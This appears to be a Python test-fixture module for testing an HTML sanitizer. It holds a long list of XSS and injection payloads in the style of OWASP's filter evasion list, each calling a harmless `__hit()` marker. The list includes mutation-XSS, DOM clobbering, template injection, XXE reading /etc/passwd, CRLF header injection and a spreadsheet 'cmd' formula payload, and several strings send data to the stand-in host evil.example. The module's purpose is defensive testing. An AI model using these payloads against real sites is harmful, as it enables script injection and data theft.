"""Texts that try to become more than text: markup, handlers, addresses, templates, headers. Written for these tests, in
the manner of the known collections (OWASP "XSS Filter Evasion"): each runs `__hit()` where something lets it.

`line` and `words` pack them into one field; each field's text begins with a mark of its own, so that it is found again.
"""

from __future__ import annotations

from typing import Final

CORE: Final = "\"'><svg onload=__hit()>"  # breaks out of both kinds of quotes and of a tag
TEXTS: Final = (
    # elements that run
    "<script>__hit()</script>", "<ScRiPt >__hit()</sCrIpT\t>", "<scr<script>ipt>__hit()</scr</script>ipt>",
    "<script/src=data:,__hit()></script>", "<img src=x onerror=__hit()>", "<img/src='x'/onerror=`__hit()`>",
    "<IMG \"\"\"><SCRIPT>__hit()</SCRIPT>\">", "<body onload=__hit()>", "<input autofocus onfocus=__hit()>",
    "<details open ontoggle=__hit()><summary>a</summary></details>", "<video><source onerror=__hit()></video>",
    "<marquee onstart=__hit()>m</marquee>", "<p onpointerover=__hit() style=position:fixed;inset:0>over</p>",
    "<a href=# onclick=__hit()>click</a>", "<button popovertarget=me onbeforetoggle=__hit()>b</button>",
    "<style>@import'//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/p)}</style>",
    "<div style=\"background:url(javascript:__hit())\">d</div>", "<x onanimationend=__hit() style=animation:a>",
    # pages in pages, and what changes the page around
    "<iframe srcdoc=\"<script>parent.__hit()</script>\"></iframe>", "<iframe src=javascript:parent.__hit()>",
    "<object data=data:text/html,<script>__hit()</script>></object>", "<embed src=//evil.example/e.swf>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:__hit()>",
    "<link rel=stylesheet href=//evil.example/l.css>", "<form action=//evil.example/><input name=password></form>",
    "<isindex action=javascript:__hit() type=image>", "<img src=//evil.example/pixel.gif>",
    "<img src=x srcset=//evil.example/set.gif>", "<a id=chrome name=csrfmiddlewaretoken>clobber</a>",
    "<input form=reply formaction=javascript:__hit() type=submit>", "<dialog open>d</dialog>",
    # other grammars inside HTML, and what parsers read differently the second time
    "<svg><script>__hit()</script></svg>", "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:__hit()\"><text x=9 y=9>t</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=__hit()/>#x\"/></svg>",
    "<svg><set attributeName=href to=javascript:__hit()></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=__hit()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__hit()&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>__hit()</script>\">", "<math href=javascript:__hit()>m</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hit()>",
    "<noscript><p title=\"</noscript><img src=x onerror=__hit()>\">", "<xmp><p title=\"</xmp><svg/onload=__hit()>\">",
    "<template><img src=x onerror=__hit()></template>", "<select><template><img src=x onerror=__hit()></select>",
    "<table><td background=javascript:__hit()>t</table>", "<listing>&lt;img src=x onerror=__hit()&gt;</listing>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">__hit()</x:script>",
    "<![CDATA[<img src=x onerror=__hit()>]]>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    # what these pages' own scripts would do, and names in their way
    "<div data-hx-get=/accounts/logout/ data-hx-trigger=load>hx</div>", "<p data-hx-on:click=__hit() data-hx-get=/>hx</p>",
    "<form data-behaviour=composer data-bundle=data:text/javascript,__hit()><textarea name=body></textarea></form>",
    "<p data-behaviour=keys><a data-key=h href=javascript:__hit()>k</a></p>", "<p class='menu rise'>menu</p>",
    "<img name=getElementById><img name=cookie>", "<a id=htmx name=config></a>", "<ul><li id=main>m</li></ul>",
    "<form id=a><input form=a name=attributes><input form=a name=nodeName></form>", "<p title=t lang=xx dir=rtl>t</p>",
    "<span class=mention data-person='1 onclick=__hit()'>@m</span>", "<blockquote data-quote='1\"><svg onload=__hit()>'>q</blockquote>",
    "<template shadowrootmode=open><img src=x onerror=__hit()></template>", "<select autofocus onfocus=__hit()><p>s</select>",
    "<p><button><p>nested</button></p>", "<a><marquee><p>nested</p></marquee></a>", "<style onload=__hit()></style>",
    "<noframes><style><!--</noframes><img src=x onerror=__hit()>--></style>", "<!-a><img src=x onerror=__hit()>",
    # addresses that run
    "<a href=javascript:__hit()>a</a>", "<a href=\"jAvAsCrIpT:__hit()\">a</a>", "<a href=\"java\tscript:__hit()\">a</a>",
    "<a href=\"&#106;avascript&colon;__hit()\">a</a>", "<a href=\"\x01javascript:__hit()\">a</a>",
    "<a href=\"java&NewLine;script:__hit()\">a</a>", "<a href=\" javascript:__hit()\">a</a>",
    "<a href=vbscript:__hit()>a</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+\">a</a>",
    "<a href=//evil.example/x>a</a>", "<a href=\"/\\evil.example\">a</a>", "<a href=\"\\\\evil.example\">a</a>", "[a](javascript:__hit())",
    "javascript:__hit()", "javascript://example.org/%0a__hit()", "data:text/html,<script>__hit()</script>",
    "https://example.org/\"onmouseover=__hit()//", "https://example.org/?a=<svg/onload=__hit()>&b='",
    "<img src=javascript:__hit()>", "<img src=\"/files/1/\" onload=__hit()>", "![x](x\"onerror=\"__hit())",
    # out of an attribute, an element, a comment, a script
    "\" onmouseover=__hit() x=\"", "' onfocus=__hit() autofocus x='", "` onerror=__hit() `", "\"/><b>bold</b>",
    "\"autofocus/onfocus=\"__hit()", "' --><img src=x onerror=__hit()>", "</title><svg/onload=__hit()>",
    "</script><svg/onload=__hit()>", "</style><svg/onload=__hit()>", "]]><svg/onload=__hit()>", "--!><svg/onload=__hit()>",
    "\\\"};__hit();//", "\\u003csvg onload=__hit()\\u003e", "';__hit();'", "\\';__hit();//", "${__hit()}",
    # templates, formats, entities
    "{{7*7}}{{ __hit() }}", "{% include '/etc/passwd' %}", "{% endraw %}{{ self }}{# c", "{% endblock %}<svg/onload=__hit()>",
    "{{ ''.__class__.__mro__ }}", "<%= 7*7 %>", "#{7*7}", "%(name)s %s %d {0} {name}", "%{7*7}", "\\1\\g<0> $1",
    "&lt;svg onload=__hit()&gt;", "&#60;svg onload=__hit()&#62;", "&amp;lt;script&amp;gt;", "&#x3C;svg/onload=__hit()>",
    "%3Csvg%20onload=__hit()%3E", "\uff1csvg onload=__hit()\uff1e", "+ADw-script+AD4-__hit()+ADw-/script+AD4-",
    # unusual characters: right to left, joiners, spaces, bells, astral, combining
    "<svg\x0conload=__hit()>", "<svg\u00a0onload=__hit()>", "<svg/\u200bonload=__hit()>", "<img\u2028src=x\u2029onerror=__hit()>",
    "\u202e<tpircs>()tih__", "\u2066\u202dleft\u2069", "\ufeff<svg onload=__hit()>", "a\u0301\u0301\u0301<b>\u0301</b>",
    "\U0001d4bd\U0001f469\u200d\u2695\ufe0f<i>i</i>", "\ufdd0\ufffd<u>u</u>", "\u017fcript <\u017fcript>__hit()</\u017fcript>",
    # addresses of mail, headers, files, formulas
    "\"<svg/onload=__hit()>\"@example.org", "a@example.org<svg/onload=__hit()>", "mailto:a@example.org?bcc=b@evil.example",
    "x%0d%0aBcc: b@evil.example", "../../../etc/passwd<svg/onload=__hit()>.png", "=HYPERLINK(\"//evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "a;b,c\"d\"|e", "<no-close title=\"", "<a title='", "<textarea>", "<plaintext>", "<!-- ",
    "</textarea><svg/onload=__hit()>",
)  # fmt: skip
LONG: Final = "<svg onload=__hit()>" * 200 + '"><' * 200


def mark(number: int) -> str:
    """What the text of a field begins with, and ends with where it is long."""
    return f"zq{number}z"


def line(number: int, most: int) -> list[str]:
    """The parts of a text for one line of at most so many characters: its mark, the core, and as many as fit."""
    parts = [mark(number), CORE]
    if len(" ".join(parts)) > most:
        parts = [mark(number)]
    for step in range(len(TEXTS)):
        text = TEXTS[(number * 7 + step) % len(TEXTS)]
        if len(" ".join([*parts, text])) <= most and len(parts) < 12:
            parts.append(text)
    return parts


def words(number: int, most: int) -> list[str]:
    """The parts of a text of several lines: all of them, one a line, as far as they fit."""
    parts = [mark(number), CORE]
    for step in range(len(TEXTS)):
        text = TEXTS[(number * 7 + step) % len(TEXTS)]
        if len("\n".join([*parts, text])) + 40 <= most:
            parts.append(text)
    return parts
